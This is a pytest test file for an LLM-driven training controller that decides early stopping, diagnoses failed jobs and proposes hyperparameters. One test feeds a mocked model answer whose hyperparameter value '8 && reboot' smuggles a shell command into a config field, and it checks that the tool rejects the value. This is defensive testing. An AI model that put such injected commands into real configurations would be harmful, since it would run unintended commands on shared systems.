    cfg = config(service)
    stopper = Stopper(cfg, choose_backend(cfg))
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    current = phase_log(tmp_path, "cur.jsonl", 20, 0.0, 20)
    service.reply("REASON: flat at 0.30 against a best of 0.90.\nDECISION: STOP")
    d = stopper.decide(StopperInput(current, 20, 60, best, 0.9), tmp_path)
    assert (d.action, d.step, d.source) == ("STOP", 40, "anthropic")
    [req] = service.requests
    content = req["body"]["messages"][0]["content"]
    assert [c["type"] for c in content] == ["text", "image", "text"]
    assert "cache_control" in req["body"]["system"][0]
    service.reply("I am not sure what to do.")
    later = phase_log(tmp_path, "cur2.jsonl", 20, 0.0, 25)
    assert stopper.decide(StopperInput(later, 20, 60, best, 0.9), tmp_path).action == "CONTINUE"
    records = json.loads((tmp_path / "early_stop.json").read_text())
    assert [r["result"]["action"] for r in records] == ["STOP", "CONTINUE"]
    assert "no DECISION line" in records[1]["fallbacks"][0]


@pytest.mark.parametrize("echo, said", [
    ({"status": 401, "message": "invalid x-api-key {key}"}, "AuthenticationError"),
    ({"body": {"error": f"no such key {KEY}"}}, "not a Messages API answer"),   # a proxy's page
    (f"REASON: you sent {KEY}.\nDECISION: STOP", None)])                        # in the answer
def test_a_key_a_gateway_echoes_is_never_written_even_by_the_monitor(service, monkeypatch,
                                                                     tmp_path, caplog, echo, said):
    """The monitor job gets its key from the controller, not from its environment, so the
    records' scrub of the environment's key missed it; the warning line was never scrubbed.
    A reply that is no API answer, or an answer, echoing the key reached early_stop.json."""
    monkeypatch.delenv(KEY_ENV, raising=False)
    cfg = config(service)
    stopper = Stopper(cfg, choose_backend(cfg, KEY))
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    service.reply(echo)
    d = stopper.decide(StopperInput(phase_log(tmp_path, "cur.jsonl", 20, 0.0, 20), 20, 60,
                                    best, 0.9), tmp_path)
    assert d.action == "STOP" and len(service.requests) == 1   # one call, whatever it said
    written = (tmp_path / "early_stop.json").read_text()
    assert "[redacted]" in written and KEY not in written
    assert KEY not in caplog.text and (said is None or said in caplog.text)


def test_stopper_asks_once_per_validation_point(service, monkeypatch, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    stopper = Stopper(cfg, choose_backend(cfg))
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    service.reply("REASON: climbing fast.\nDECISION: CONTINUE")
    for steps in (20, 22, 24):      # validation every 5 steps: 22 and 24 add none after 20
        d = stopper.decide(StopperInput(phase_log(tmp_path, "c.jsonl", 20, 0.02, steps), 20, 60,
                                        best, 0.9), tmp_path)
        assert d.action == "CONTINUE" and d.val_step == 40
    assert len(service.requests) == 1
    assert "judged then: climbing fast." in d.reason
    stopper.decide(StopperInput(phase_log(tmp_path, "c.jsonl", 20, 0.02, 25), 20, 60, best, 0.9), tmp_path)
    assert len(service.requests) == 2
    assert_no_secret_or_test_metric(service, tmp_path)


def test_an_unreadable_answer_is_asked_again_once_per_validation_point(service, monkeypatch,
                                                                         tmp_path):
    """An answer without a DECISION line was never taken as judged, so every monitor pass
    (15 minutes) asked again at the same validation point, paying for the same prompt all
    along a model's bad spell. A second try is worth its price; a third is not."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    stopper = Stopper(cfg, choose_backend(cfg))
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    service.reply(*["I am not sure what to do."] * 4)
    for _ in range(4):
        d = stopper.decide(StopperInput(phase_log(tmp_path, "c.jsonl", 20, 0.0, 20), 20, 60,
                                        best, 0.9), tmp_path)
        assert d.action == "CONTINUE" and d.val_step == 40
    assert len(service.requests) == 2
    assert "could not be read" in d.reason
    service.reply("REASON: flat at 0.30 against a best of 0.90.\nDECISION: STOP")
    d = stopper.decide(StopperInput(phase_log(tmp_path, "c.jsonl", 20, 0.0, 25), 20, 60, best,
                                    0.9), tmp_path)
    assert d.action == "STOP" and len(service.requests) == 1    # a new point is asked


def test_stopper_never_asks_before_step_10_or_at_the_planned_end(service, monkeypatch, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    current = phase_log(tmp_path, "cur.jsonl", 20, 0.0, 9)
    service.reply("REASON: hopeless.\nDECISION: STOP")
    d = Stopper(cfg, choose_backend(cfg)).decide(StopperInput(current, 20, 60, current, 0.9), tmp_path)
    assert d.action == "CONTINUE" and service.requests == []
    finished = phase_log(tmp_path, "end.jsonl", 20, 0.0, 40)     # at the planned end, step 60
    d = Stopper(cfg, choose_backend(cfg)).decide(StopperInput(finished, 20, 60, current, 0.9), tmp_path)
    assert d.action == "CONTINUE" and "planned end" in d.reason and service.requests == []


def test_error_analyzer_through_openai(service, monkeypatch, tmp_path):
    cfg = config(service, backend="openai")
    analyzer = ErrorAnalyzer(cfg, CPU, choose_backend(cfg))
    # verl validates the test files too, so its console names their scores val-core/...
    log = ("step:3 - val-core/math500/acc/mean@1:0.987654 - test-core/a/acc/mean@1:0.987654"
           "\ntorch.OutOfMemoryError: CUDA out of memory")
    service.reply('```json\n{"class": "oom", "action": "change", "changes": '
                  '{"ppo_micro_batch_size_per_gpu": 8}, "message": "halved micro batch"}\n```')
    fix = analyzer.analyze("OUT_OF_MEMORY", 137, log, HP, tmp_path)
    assert (fix.failure, fix.action, fix.source) == ("oom", "change", "openai")
    assert fix.hparams["ppo_micro_batch_size_per_gpu"] == 8
    user = service.requests[0]["body"]["messages"][1]["content"][-1]["text"]
    assert "OUT_OF_MEMORY" in user and "CUDA out of memory" in user
    service.reply('```json\n{"class": "oom", "action": "change", "changes": '
                  '{"ppo_micro_batch_size_per_gpu": "8 && reboot"}}\n```')
    fix = analyzer.analyze("OUT_OF_MEMORY", 137, log, HP, tmp_path)
    assert fix.source == "heuristic" and fix.changes["ppo_micro_batch_size_per_gpu"] == 8
    assert len(service.requests) == 2
    assert_no_secret_or_test_metric(service, tmp_path)


def test_images_are_downscaled_to_the_setting(service, monkeypatch, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service, image_max_px=256)
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    current = phase_log(tmp_path, "cur.jsonl", 20, 0.0, 20)
    service.reply("REASON: still close.\nDECISION: CONTINUE")
    Stopper(cfg, choose_backend(cfg)).decide(StopperInput(current, 20, 60, best, 0.9), tmp_path)
    [image] = [c for c in service.requests[0]["body"]["messages"][0]["content"]
               if c["type"] == "image"]
    sent = Image.open(io.BytesIO(base64.b64decode(image["source"]["data"])))
    drawn = Image.open(next((tmp_path / "plots").glob("overlay_*.png")))
    assert drawn.size == (768, 480) and sent.size == (256, 160)


def answer(**body) -> str:
    return f"Diagnosis first.\n```json\n{json.dumps(body)}\n```"


def test_changes_under_an_unknown_field_are_repaired_then_fall_back(service, anthropic_proposer,
                                                                   run, tmp_path):
    """Issue 15.4: hyperparameters under an unknown key were taken as "no changes"."""
    node, log = run
    service.reply(answer(diagnosis="KL rose", hyperparameters={"lr": 5e-4}, checkpoint_step=40,
                         additional_steps=50))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic" and len(service.requests) == 2
    assert "unknown field(s) 'hyperparameters'" in service.requests[1]["body"]["messages"][2]["content"]
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["fallbacks"][-1] == "used the heuristic agent instead"


def test_an_evolve_child_without_changes_must_say_so(service, anthropic_proposer, run, tmp_path):
    node, log = run
    service.reply(answer(diagnosis="fine", changes={}, checkpoint_step=40, additional_steps=50),
                  answer(diagnosis="healthy, keep going", changes={}, checkpoint_step=40,
                         additional_steps=50, no_change=True))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "anthropic" and p.changes == {} and p.checkpoint == 40
    assert "set \"no_change\": true" in service.requests[1]["body"]["messages"][2]["content"]


def test_a_huge_answer_is_capped_before_parsing_storing_and_repairing(service, anthropic_proposer,
                                                                     run, tmp_path):
    """Issue 15.6: a 2 MB answer was echoed whole into the repair (2.34 MB) and stored whole."""
    node, log = run
    service.reply(good(extra="x" * 2_000_000))
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert p.source == "heuristic" and len(service.requests) == 2
    assert len(json.dumps(service.requests[1]["body"])) < 200_000
    assert "2,000,1" in service.requests[1]["body"]["messages"][2]["content"]   # its length
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert all(len(a) < 10_000 and "sha256" in a for a in record["answers"])
    assert (tmp_path / "proposal.json").stat().st_size < 100_000


def test_a_deeply_nested_answer_is_repaired_and_recorded(service, anthropic_proposer, run,
                                                         tmp_path):
    """A 3 KB answer nested 1500 deep made json.loads raise RecursionError, which crashed the
    controller before the answer and its cost were saved, and again on every restart."""
    node, log = run
    nested = "```json\n" + '{"a": ' * 1500 + "1" + "}" * 1500 + "\n```"
    service.reply(nested, good())
    p = anthropic_proposer.propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.source, p.hparams["lr"]) == ("anthropic", 5e-4)
    assert "nested too deeply" in service.requests[1]["body"]["messages"][2]["content"]
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert record["answers"] == [nested, good()] and record["usage"]["input_tokens"] > 0


def test_a_checker_that_fails_unexpectedly_costs_the_answer_not_the_record(service, monkeypatch,
                                                                           caplog):
    """Whatever a parser raises besides AnswerError (a bug of ours, not the LLM's) must not
    escape ask(): the fallback answers and the record keeps the answer, its cost and why."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    record = AgentRecord("proposer", "anthropic", cfg.model)
    service.reply("an answer")

    def parse(text: str) -> str:
        raise RecursionError("maximum recursion depth exceeded")

    got = ask(choose_backend(cfg), Prompt("system", "task"), parse, lambda: "fallback", record)
    assert got == "fallback" and len(service.requests) == 1      # no repair: not the LLM's fault
    assert record.answers == ["an answer"] and record.usage.input_tokens > 0
    assert record.fallbacks == ["answer 1 could not be checked (RecursionError: maximum "
                                "recursion depth exceeded)", "used the heuristic agent instead"]
    assert "could not be checked" in caplog.text


def test_a_stop_for_a_phase_leading_the_best_is_overruled(service, monkeypatch, tmp_path):
    """Issue 15.5: a bare DECISION: STOP was obeyed for the phase that led the best one."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    leader = phase_log(tmp_path, "cur.jsonl", 20, 0.02, 20)          # reaches 0.70 > 0.60
    service.reply("DECISION: STOP")
    d = Stopper(cfg, choose_backend(cfg)).decide(StopperInput(leader, 20, 60, best, 0.6), tmp_path)
    assert d.action == "CONTINUE" and "STOP overruled" in d.reason and len(service.requests) == 1
    [record] = json.loads((tmp_path / "early_stop.json").read_text())
    assert record["result"]["action"] == "CONTINUE" and "overruled" in record["fallbacks"][-1]


def test_a_nan_validation_point_does_not_hide_a_leader(service, monkeypatch, tmp_path):
    """A NaN validation point (a blow-up, which the trainers write as NaN) made the phase's
    best validation NaN, and the LLM's STOP for a phase above the best finished strategy was
    obeyed. Non-finite points are left out, as the phase's best score leaves them out."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    leader = read_metrics(write_metrics(tmp_path / "cur.jsonl",
                                        val_rows({30: math.nan, 35: 0.62, 40: 0.55})))
    service.reply("DECISION: STOP")
    d = Stopper(cfg, choose_backend(cfg)).decide(StopperInput(leader, 20, 60, best, 0.6), tmp_path)
    assert d.action == "CONTINUE" and "STOP overruled: the phase's best validation 0.620" in d.reason


def test_an_overruled_stop_is_not_asked_again_until_a_new_validation_point(service, monkeypatch,
                                                                           tmp_path):
    """After the leader rule overruled the LLM's STOP, the LLM was asked again at every monitor
    pass (every new training step) and paid each time for an answer overruled again. The
    overruled answer now stands until the phase has a new validation point, or until the phase
    no longer leads the best strategy (then the LLM is asked, as the comparison has changed)."""
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    stopper = Stopper(cfg, choose_backend(cfg))
    best = phase_log(tmp_path, "best.jsonl", 0, 0.01, 60)
    service.reply("REASON: the curve looks noisy.\nDECISION: STOP")

    def judge(steps, best_val=0.6):
        leader = phase_log(tmp_path, "cur.jsonl", 20, 0.02, steps)   # 0.70 at step 40
        return stopper.decide(StopperInput(leader, 20, 60, best, best_val), tmp_path)

    for steps in (20, 22, 24):     # validation every 5 steps: 22 and 24 add none after 40
        d = judge(steps)
        assert (d.action, d.val_step) == ("CONTINUE", 40) and "STOP overruled" in d.reason
    assert len(service.requests) == 1
    records = json.loads((tmp_path / "early_stop.json").read_text())
    assert len(records) == 3 and [r["backend"] for r in records] == ["anthropic", "rule", "rule"]
    assert records[2]["result"]["reason"].startswith("no validation point since step 40, "
                                                     "judged then: STOP overruled")
    assert judge(24, best_val=0.8).action == "STOP"       # no longer the leader: asked again
    assert len(service.requests) == 2
    judge(25)                                             # a new validation point: asked again
    assert len(service.requests) == 3


def test_a_job_that_refused_its_input_is_not_sent_to_the_llm(service, monkeypatch, tmp_path):
    monkeypatch.setenv(KEY_ENV, KEY)
    cfg = config(service)
    service.reply('```json\n{"class": "unknown", "action": "retry"}\n```')
    fix = ErrorAnalyzer(cfg, CPU, choose_backend(cfg)).analyze(
        "FAILED", 2, "error: config key 'lr': must be > 0", HP, tmp_path)
    assert fix.action == "give_up" and service.requests == []
    assert json.loads((tmp_path / "error_analysis.json").read_text())["backend"] == "rule"


@pytest.mark.parametrize("backend", ["anthropic", "openai"])
def test_check_tries_the_key_and_model_with_one_token(service, monkeypatch, backend):
    """--check reported a garbage API key as [ok] without trying it; every agent call then
    fell back to the heuristics. A refusal names the key to fix; a failure that waiting may
    cure (a 5xx, the network) is said but does not fail the check."""
    from llmzero_slurm.config import ExperimentConfig
    from llmzero_slurm.controller.data_checks import NotChecked
    from llmzero_slurm.controller.preflight import check_llm
    monkeypatch.setenv(KEY_ENV, "sk-garbage-0123456789")
    cfg = ExperimentConfig("x", agents=config(service, backend, max_retries=4))
    service.reply({"status": 401})
    with pytest.raises(ConfigError, match=rf"^config key 'agents.api_key_env': the .* API "
                                          rf"refused the key in \${KEY_ENV}: "
                                          "AuthenticationError: Error code: 401 "):
        check_llm(cfg)
    [request] = service.requests                        # once: no retries
    assert request["body"]["max_tokens"] == 1
    service.reply({"status": 404})
    with pytest.raises(ConfigError, match=r"^config key 'agents.model': the .* API at "
                                          rf"{service.url}.* has no model 'claude-sonnet-4-6'"):
        check_llm(cfg)
    service.reply("Ready")
    assert check_llm(cfg) == f"{backend} backend, model claude-sonnet-4-6: a one-token " \
                             "request was answered"
    service.reply({"status": 500})    # no verdict: --check's [skip], neither ok nor FAIL
    with pytest.raises(NotChecked, match=f"^{backend} backend, model claude-sonnet-4-6: not "
                                         "verified from here: InternalServerError"):
        check_llm(cfg)


def test_a_reasoning_models_thinking_is_not_taken_for_its_answer(service, monkeypatch, run,
                                                                  tmp_path):
    """A local reasoning model (a vLLM server without a reasoning parser) writes its thinking
    in <think>...</think> before the answer: a draft block in there was used as the decision."""
    monkeypatch.delenv(KEY_ENV, raising=False)
    cfg = config(service, backend="openai", model="qwen3")
    node, log = run
    final = json.loads(good().split("```json\n")[1].split("\n```")[0])
    draft = good(changes={"lr": 1e-2}).replace("Step 1 ... Step 4 ...", "maybe")
    service.reply(f"<think>\n{draft}\nNo: lr 1e-2 is too high.\n</think>\n\n{json.dumps(final)}")
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5), tmp_path)
    assert (p.source, p.hparams["lr"]) == ("openai", 5e-4)
    record = json.loads((tmp_path / "proposal.json").read_text())
    assert "<think>" in record["answers"][0]          # the record keeps the whole reply
    # Thinking only (a template that opens <think> itself, so only the close tag comes back):
    # the repair round is sent the answer without it; a block never closed is thinking too.
    assert final_answer("<think>\nstill thinking") == ""
    service.reply(f"{draft}\n</think>\n", good())
    p = Proposer(cfg, CPU, choose_backend(cfg)).propose(ProposerInput(node, log, 0.5),
                                                        tmp_path / "b")
    assert (p.source, p.hparams["lr"]) == ("openai", 5e-4)
    repair = service.requests[1]["body"]["messages"]
    assert repair[-2]["content"] == "(no text)" and "no JSON object" in repair[-1]["content"]


def test_check_tells_a_wrong_model_from_a_wrong_url(service, monkeypatch):
    """Against a vLLM server, --check blamed agents.model for a 404 whatever caused it: a
    base_url without /v1 read "has no model 'qwen'" though the server serves it, and a wrong
    name did not say which models there are. The server's model list now tells them apart."""
    from llmzero_slurm.config import ExperimentConfig
    from llmzero_slurm.controller.preflight import check_llm
    monkeypatch.delenv(KEY_ENV, raising=False)
    cfg = ExperimentConfig("x", agents=config(service, "openai", model="qwen2"))
    service.reply({"status": 404, "message": "The model `qwen2` does not exist."},
                  models=["qwen", "qwen-vl"])
    with pytest.raises(ConfigError, match=r"^config key 'agents.model': the .* at "
                                          rf"{service.url}/v1/? serves no model 'qwen2'; it "
                                          r"serves: 'qwen', 'qwen-vl'"):
        check_llm(cfg)
    cfg.agents.base_url = service.url                   # no /v1: no route at all
    service.reply({"status": 404, "message": "Not Found"}, models=["qwen2"])
    with pytest.raises(ConfigError, match=r"^config key 'agents.base_url': .* 404 .*"
                                          rf"/v1.*: try {service.url}/v1\b"):
        check_llm(cfg)


@pytest.mark.parametrize("backend", ["anthropic", "openai"])
def test_a_call_abandoned_while_rate_limited_says_so(service, monkeypatch, backend):
    """A site server answering 429 with a retry-after beyond agents.timeout_s read only "no
    complete answer within agents.timeout_s", as if it were slow: the record now names the
    service's last refusal, so the user sees the rate limit."""
    monkeypatch.setenv(KEY_ENV, KEY)
    llm = choose_backend(config(service, backend=backend, timeout_s=1.0, max_retries=2))
    service.reply({"status": 429, "retry_after": 30})
    with pytest.raises(LLMUnavailable, match=r"no complete answer within agents.timeout_s = 1 "
                                             r"s .*; its last reply was HTTP 429 \(retry-after: "
                                             r"30 s\)"):
        llm.complete(Prompt("Answer.", "Ready?"))


@pytest.mark.parametrize("backend", ["anthropic", "openai"])
def test_a_slow_call_is_said_once_with_its_limit(service, monkeypatch, caplog, backend):
    """A call the service took long to answer left the controller silent up to agents.timeout_s
    (120 s). Unanswered after a quarter of its limit (30 s at most) it is said, once."""
    monkeypatch.setenv(KEY_ENV, KEY)
    llm = choose_backend(config(service, backend=backend, timeout_s=8.0, max_retries=0))
    service.reply({"delay": 4.0, "text": "ready"})
    with caplog.at_level("WARNING", logger="llmzero_slurm"):
        assert llm.complete(Prompt("Answer.", "Ready?")).text == "ready"
    [said] = [r.getMessage() for r in caplog.records]
    assert re.fullmatch(r"LLM call unanswered after [23] s; waiting for it within "
                        r"agents.timeout_s = 8 s \(the service's retries included\)", said), said


def test_check_names_the_server_it_could_not_reach(monkeypatch):
    """With the site's LLM server down, --check said only "APIConnectionError: Connection
    error.": neither the URL it tried nor why (refused, no route, DNS)."""
    from llmzero_slurm.config import ExperimentConfig
    from llmzero_slurm.controller.data_checks import NotChecked
    from llmzero_slurm.controller.preflight import check_llm
    monkeypatch.delenv(KEY_ENV, raising=False)
    with socket.socket() as s:             # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{s.getsockname()[1]}/v1"
    cfg = ExperimentConfig("x", agents=AgentConfig(backend="openai", base_url=url, model="q",
                                                   api_key_env=KEY_ENV))
    with pytest.raises(NotChecked) as unverified:    # --check's [skip], neither ok nor FAIL
        check_llm(cfg)
    said = str(unverified.value)
    assert said.startswith("openai backend, model q: not verified from here: ")
    assert f"at {url}" in said and "ConnectError" in said and "refused" in said.lower()


def test_a_reasoning_model_gets_room_to_think(service, monkeypatch, tmp_path):
    """The stopper asks for at most 300 tokens and agents.max_tokens can only lower that, so a
    local reasoning model (vLLM with a reasoning parser: the thinking in reasoning_content) was
    cut off while thinking on every call, and the record said only "answer more briefly".
    agents.thinking_tokens adds room, and a cut in the thinking names that setting."""
    from llmzero_slurm.agents.decisions import parse_decision
    monkeypatch.delenv(KEY_ENV, raising=False)
    cfg = config(service, backend="openai", model="qwen3")
    cut = {"body": {"id": "c", "object": "chat.completion", "created": 0, "model": "qwen3",
                    "choices": [{"index": 0, "finish_reason": "length", "message": {
                        "role": "assistant", "content": None,
                        "reasoning_content": "The validation rose at step 20, then"}}]}}
    service.reply(cut)
    record = AgentRecord("stopper", "openai")
    found = ask(choose_backend(cfg), Prompt("s", "t", max_tokens=300),
                lambda text: parse_decision(text, 1, "openai"), lambda: None, record)
    assert found is None and "agents.thinking_tokens" in record.fallbacks[0]
    assert "validation rose" in record.answers[0]         # the thinking is kept
    assert service.requests[0]["body"]["max_tokens"] == 300
    cfg.thinking_tokens = 4000
    service.reply("DECISION: CONTINUE\nREASON: rising")
    ask(choose_backend(cfg), Prompt("s", "t", max_tokens=300),
        lambda text: parse_decision(text, 1, "openai"), lambda: None, AgentRecord("stopper", "openai"))
    assert service.requests[0]["body"]["max_tokens"] == 4300


def test_the_llm_sdks_load_only_when_an_llm_backend_is_made():
    """Importing anthropic and openai took 1.5-2 s on every command (--help, a one-line config
    error, a search on the offline heuristics); the controller's modules must not load them,
    and making a backend must."""
    import subprocess
    import sys

    script = (
        "import sys\n"
        "import llmzero_slurm.cli.start, llmzero_slurm.controller.monitor\n"
        "assert not {'anthropic', 'openai'} & set(sys.modules), 'loaded at import'\n"
        "from llmzero_slurm.agents.llm import choose_backend\n"
        "from llmzero_slurm.config import AgentConfig\n"
        "for name, url in (('anthropic', None), ('openai', 'http://127.0.0.1:9/v1')):\n"
        "    choose_backend(AgentConfig(backend=name, base_url=url), key='sk-0123456789')\n"
        "    assert name in sys.modules, name\n")
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
